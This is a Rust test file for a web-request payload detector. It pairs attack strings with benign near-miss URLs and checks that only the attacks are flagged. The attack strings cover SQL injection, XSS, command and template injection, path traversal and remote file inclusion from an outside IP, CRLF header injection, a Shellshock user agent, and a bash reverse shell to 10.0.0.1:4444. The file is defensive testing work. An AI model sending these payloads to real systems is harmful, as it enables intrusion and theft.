//! Each detector on attacks written from the attack classes' documented shapes (OWASP's
//! testing guide), each beside a near-miss that an ordinary site sends and that must
//! not fire.

use super::{Field, PayloadDetector};

fn detector() -> PayloadDetector {
    PayloadDetector::new(1).unwrap()
}

fn finding(d: &PayloadDetector, field: Field, raw: &str) -> Option<String> {
    d.inspect(field, raw.as_bytes()).map(|i| d.names()[i as usize].clone())
}

/// (attack target, the kind its rule names, a benign twin)
const TARGETS: &[(&str, &str, &str)] = &[
    // SQL injection: tautologies, blind timing, stacked queries, comments as spaces.
    ("/item?id=1%27%20or%20%271%27=%271", "sqli:", "/item?id=1%27s%20guide"),
    ("/item?id=1%20AND%20SLEEP(5)", "sqli", "/item?id=sleep%20tips%20for%20babies"),
    ("/p?id=1;%20select%20pg_sleep(10)--", "sqli", "/p?id=1;%20page=2"),
    ("/p?id=-1/**/union/**/select/**/1,2,3", "sqli", "/p?q=union%20station%20opening%20hours"),
    ("/p?id=1%27%20waitfor%20delay%20%270:0:5%27--", "sqli", "/p?q=wait%20for%20delay%20notice"),
    ("/p?id=1%20and%20benchmark(1000000,md5(1))", "sqli", "/p?q=benchmark%20results%202024"),
    // XSS, also as the logs escape it.
    ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss:", "/s?q=%3C3%20you"),
    ("/s?q=%22%3E%3Csvg/onload=alert(1)%3E", "xss", "/s?q=svg%20onload%20event%20docs"),
    ("/s?q=javascript:alert(document.domain)", "xss", "/s?q=javascript%20tutorial"),
    ("/s?q=%3Cimg%20src=x%20onerror=confirm(1)%3E", "xss", "/s?q=img%20src%20attribute"),
    // Command injection: separators, Windows cmd, shell evasion, reverse shells.
    ("/ping?host=127.0.0.1;cat%20/etc/passwd", "", "/ping?host=127.0.0.1"),
    ("/run?c=%7Cwhoami", "rce", "/run?c=who%20am%20i"),
    ("/run?f=/etc/pa[s]swd", "rce", "/run?f=/images/draft-*.png"),
    ("/run?f=/[?]tc/pa[?]swd", "rce", "/run?f=/docs/faq.html"),
    ("/run?f=less%20/e?c/p?ss?d", "rce:shell-glob", "/run?f=what%20is%20/etc/passwd?"),
    ("/run?c=;w%22h%22o%27am%27i", "rce:quoted-command", "/run?c=%22who%22+am+i"),
    ("/run?c=;c\\at%20/[?]tc/pa[?]swd", "rce", "/run?c=cat%20pictures"),
    ("/run?x=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261", "", "/run?x=bash%20tips"),
    ("/run?x=for%20%25x%20in%20(a)%20do%20whoami", "rce", "/run?x=for%20each%20in%20list"),
    // Code injection: PHP, template engines, Node.js.
    ("/x.php?a=system(%27id%27)", "php", "/x.php?a=the%20system%20is%20down"),
    ("/x?a=%7B%7B7*7%7D%7D", "generic", "/x?a=%7B%7Bname%7D%7D"),
    ("/x?a=_$$ND_FUNC$$_function(){require(%27child_process%27).exec(%27id%27)}", "generic", "/x?a=function%20docs"),
    ("/x?a=$%7B%7B7*7%7D%7D", "", "/x?a=$%7Bprice%7D"),
    ("/p?id=1;SELECT%20CHAR(0x41)--", "sqli", "/p?id=char%20limit%20twitter"),
    ("/x.php?page=php://filter/convert.base64-encode/resource=index.php", "php", "/x.php?page=filter%20options"),
    // Traversal and local/remote inclusion, also double- and overlong-encoded.
    ("/dl?file=../../../../etc/passwd", "lfi", "/dl?file=reports/2024/q1.pdf"),
    ("/dl?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "lfi", "/dl?file=100%2525%20cotton"),
    ("/dl?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "lfi", "/dl?file=caf%C3%A9.txt"),
    ("/inc?page=http://198.51.100.7/shell.txt?", "rfi", "/inc?page=about"),
    // CRLF / header injection, HTTP splitting inside a parameter, an encoded newline in
    // a PHP path (nginx + PHP-FPM PATH_INFO, CVE-2019-11043), a NUL cutting a path.
    ("/index.php/PHP_VALUE%0Asession.auto_start=1;;;?a", "protocol", "/index.php/blog/2024/hello-world"),
    ("/q?x=1%20HTTP/1.1%0d%0aHost:%20evil", "protocol", "/q?x=http%20status%20codes"),
    ("/dl?file=../../etc/passwd%00.png", "lfi", "/dl?file=photo.png"),
    ("/r?url=x%0d%0aSet-Cookie:%20admin=1", "protocol", "/r?url=/home"),
    ("/r?next=%0d%0aLocation:%20http://evil.example", "protocol", "/r?next=%2Fhome"),
];

#[test]
fn attacks_in_the_target_fire_and_their_twins_do_not() {
    let d = detector();
    let mut failures = Vec::new();
    for (attack, kind, twin) in TARGETS {
        match finding(&d, Field::Target, attack) {
            Some(name) if name.starts_with(kind) => {}
            other => failures.push(format!("{attack}: {other:?}, wanted {kind}*")),
        }
        if let Some(name) = finding(&d, Field::Target, twin) {
            failures.push(format!("benign {twin}: {name}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn sql_injection_is_named_by_its_fingerprint() {
    let d = detector();
    let name = finding(&d, Field::Target, "/item?id=1%27%20or%20%271%27=%271").unwrap();
    assert_eq!(name, "sqli:s&sos");
}

#[test]
fn an_apache_escaped_and_an_nginx_escaped_request_are_judged_alike() {
    let d = detector();
    let apache = finding(&d, Field::Target, r#"/s?q=\"><script>alert(1)</script>"#);
    let nginx = finding(&d, Field::Target, r"/s?q=\x22><script>alert(1)</script>");
    assert!(apache.is_some());
    assert_eq!(apache, nginx);
}

#[test]
fn headers_carry_payloads_too() {
    let d = detector();
    assert!(finding(&d, Field::Agent, "() { :; }; /bin/bash -c 'id'").is_some());
    assert!(finding(&d, Field::Agent, "Mozilla/5.0' AND SLEEP(5) AND '1'='1").is_some());
    for agent in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "curl/8.4.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ] {
        assert_eq!(finding(&d, Field::Agent, agent), None, "{agent}");
    }
    assert_eq!(finding(&d, Field::Referer, "https://www.example.com/search?q=it%27s+(not)+1+or+2"), None);
}

#[test]
fn higher_paranoia_finds_more() {
    let one = detector();
    let four = PayloadDetector::new(4).unwrap();
    let probe = "/p?id=1%27";
    assert_eq!(finding(&one, Field::Target, probe), None);
    assert!(finding(&four, Field::Target, probe).is_some());
}

#[test]
fn arbitrary_bytes_never_panic() {
    let d = detector();
    let mut state = 0x9e3779b97f4a7c15u64;
    let alphabet = b"'\"<>%;|$()\\`./*-#=&?+ aAzZ09\x00\xc0\xae\n{}[]!,:";
    for _ in 0..20_000 {
        let len = (state % 64) as usize;
        let mut input = Vec::with_capacity(len);
        for _ in 0..len {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            input.push(alphabet[(state % alphabet.len() as u64) as usize]);
        }
        for field in [Field::Target, Field::Agent, Field::Referer] {
            let _ = d.inspect(field, &input);
        }
    }
}
